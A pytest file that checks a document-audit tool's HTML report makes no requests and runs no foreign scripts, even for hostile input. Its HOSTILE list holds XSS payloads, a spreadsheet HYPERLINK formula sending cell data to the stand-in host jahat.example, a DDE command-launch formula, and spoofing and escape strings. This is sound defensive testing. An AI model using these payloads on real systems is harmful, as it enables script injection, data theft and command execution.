"""The HTML report: one file that asks for nothing, whatever stands in the sheet."""

from __future__ import annotations

import base64
import hashlib
import os
import re
from pathlib import Path

import pytest
from lxml import html as lxml_html

from lke_docs.check import audit
from lke_docs.errors import InputError
from lke_docs.model import Place, Row, Sheet, SourceText
from lke_docs.read import read_bytes
from lke_docs.report import render
from lke_docs.report.html_card import pieces
from lke_docs.report.model import Report
from lke_docs.report.overview import make_report
from lke_docs.report.summary import MEANINGS
from tests.effort import calls
from tests.test_report import SAMPLE, opened
from tools.look_at_html import browser, requests_of, runs, violations

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://jahat.example/?"&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "\u202egnp.tfarid\u202c Notula tanggal 3 Mei 2021",
    "\x1b[2J\x1b]0;judul\x07Notula\x9b31m",
    "</style></title><svg/onload=alert(1)>{{ 7*7 }}{% raw %}",
    "Notula tanggal 3 Mei 2021 " + "kata" * 250_000,
)


def hostile() -> Sheet:
    """A sheet in which everything that has a text has a hostile one."""
    rows = [
        Row(f"A.1.{n}.A{text[:30]}", text[:200], "A" + text[:20], "letter", f"{text}; SK Nomor 1", Place(line=n))  # type: ignore[arg-type]
        for n, text in enumerate(HOSTILE, 1)
    ]
    every = "".join(HOSTILE[:-1])
    return Sheet(every, "0" * 64, "txt", tuple(rows), every, every, every, unplaced=(SourceText(every, Place()),))


@pytest.fixture(scope="module")
def whole() -> Report:
    return opened(SAMPLE)


def parsed(report: Report) -> tuple[str, lxml_html.HtmlElement]:
    text = str(render(report, "html"))
    return text, lxml_html.fromstring(text)


@pytest.mark.parametrize("kind", ["sample", "hostile", "clean"])
def test_the_page_needs_nothing_else_and_holds_only_our_own_code(kind: str, whole: Report) -> None:
    reports = {
        "sample": lambda: whole,
        "hostile": lambda: make_report(audit(hostile())),
        "clean": lambda: make_report(audit(Sheet("bersih.txt", "0" * 64, "txt", ()))),
    }
    text, page = parsed(reports[kind]())

    assert len(page.xpath("//script")) == len(page.xpath("//style")) == 1
    assert not page.xpath("//img | //iframe | //object | //embed | //form | //link | //base | //*[@src] | //*[@style]")
    assert not [
        name for node in page.iter() if isinstance(node.tag, str) for name in node.attrib if name.startswith("on")
    ]
    assert all(link.startswith("#") for link in page.xpath("//*[@href]/@href"))
    policy = page.xpath("//meta[@http-equiv]/@content")[0]
    for tag in ("script", "style"):
        digest = hashlib.sha256(page.xpath(f"//{tag}/text()")[0].encode()).digest()
        assert f"{tag}-src 'sha256-{base64.b64encode(digest).decode()}'" in policy
    assert all(char.isprintable() or char in "\n\t" for char in text)


def test_the_page_is_no_sheet(whole: Report) -> None:
    with pytest.raises(InputError, match="hasil lke-docs"):
        read_bytes(str(render(whole, "html")).encode(), "laporan.html")


def test_every_deep_link_leads_somewhere_and_ids_are_unique(whole: Report) -> None:
    _, page = parsed(whole)
    ids = page.xpath("//@id")

    assert len(ids) == len(set(ids))
    assert {link[1:] for link in page.xpath("//@href")} <= set(ids)
    assert {f"f-{it.id}" for it in whole.singles} <= set(ids)
    assert {card.row.code for card in whole.cards} <= set(ids)


def test_the_cell_of_a_card_stands_there_whole(whole: Report) -> None:
    for card in whole.cards:
        found = pieces(card)

        assert "".join(piece.text for piece in found) == card.row.evidence
        assert sorted(it for piece in found for it in piece.letters) == sorted(mark.letter for mark in card.marks)
        marked = sum(len(piece.text) for piece in found if piece.is_marked)
        assert marked == len({place for mark in card.marks for place in range(mark.start, mark.end)})


def test_the_first_screen_says_why_what_it_costs_and_what_to_do(whole: Report) -> None:
    """Tried with a stop-watch: the cost stood as a bare number, and the number was not the one in the cell."""
    _, page = parsed(whole)
    head = " ".join(page.xpath("//header")[0].text_content().split())

    assert "Pertama A.2.3.A, A.6.1.A: Nomor Print-246/P.4.17/Cp.1/03/2021 dipakai untuk 2 naskah" in head
    assert "tertulis “Print- 246 /P.4.17/03/2021”" in head
    assert "Taruhan 1,50 poin yang diklaim di situ belum tampak dari bukti." in head
    assert "Caranya Cocokkan dengan naskah asli" in head
    assert set(page.xpath("//header//dt/span/text()")) == set(MEANINGS)
    card = page.xpath('//article[@id="A.2.3.A"]')[0].text_content()
    assert "(1,50 poin bersama A.6.1.A)" in card
    assert "dokumennya diragukan karena satu nomor untuk dua naskah (NOM005)" in card


def test_the_guide_tells_the_levels_as_the_page_does() -> None:
    said = (SAMPLE.parent.parent / "docs" / "membaca_temuan.md").read_text(encoding="utf-8")

    assert all(f"| {level} | {meaning} |" in said for level, meaning in MEANINGS.items())


def test_two_pages_are_equal_and_rules_are_explained(whole: Report) -> None:
    text, page = parsed(whole)

    assert text == render(whole, "html")
    assert "Mengapa" in page.xpath('//*[@id="r-NOM005"]')[0].text_content()


def test_two_thousand_findings_stay_below_five_megabytes(whole: Report) -> None:
    """The sample's findings thirteen times over, as a large sheet has them."""
    many = _times(whole, 13)
    text = str(render(many, "html"))

    assert sum(len(card.lines) for card in many.cards) >= 2000
    assert len(text.encode()) < 5_000_000


def test_twice_the_cards_cost_twice_the_work(whole: Report) -> None:
    one, two = (calls(lambda count=count: render(_times(whole, count), "html")) for count in (1, 2))  # type: ignore[misc]

    assert 0 < two <= 2.3 * one


def _times(report: Report, count: int) -> Report:
    cards = tuple(card._replace(row=_renamed(card.row, n)) for n in range(count) for card in report.cards)
    return report._replace(cards=cards)


def _renamed(row: Row, number: int) -> Row:

    return row._replace(code=f"{row.code}.{number}")


@pytest.mark.skipif(os.environ.get("LKE_LONG") != "1" or browser() is None, reason="LKE_LONG=1, needs Chromium")
def test_a_browser_asks_for_nothing_and_axe_finds_nothing(tmp_path: Path) -> None:
    """Also the hostile sheet; `LKE_AXE` names axe.min.js."""
    program, axe = browser(), os.environ.get("LKE_AXE")
    assert program is not None
    for number, report in enumerate((opened(SAMPLE), make_report(audit(hostile())))):
        page = tmp_path / f"{number}.html"
        page.write_text(str(render(report, "html")), encoding="utf-8")
        assert requests_of(program, page) == []
        assert not runs(program, page)
        assert not axe or violations(program, page, Path(axe)) == []
    page.write_text(re.sub("<meta http-equiv[^>]*>", "", page.read_text()) + '<img src="http://127.0.0.1:9/x">')
    assert requests_of(program, page) == ["http://127.0.0.1:9/x"], "the witness itself sees a request"
    page.write_text("<html><head></head><body><img src=x onerror=alert(1)></body></html>")
    assert runs(program, page), "the witness itself sees a script"
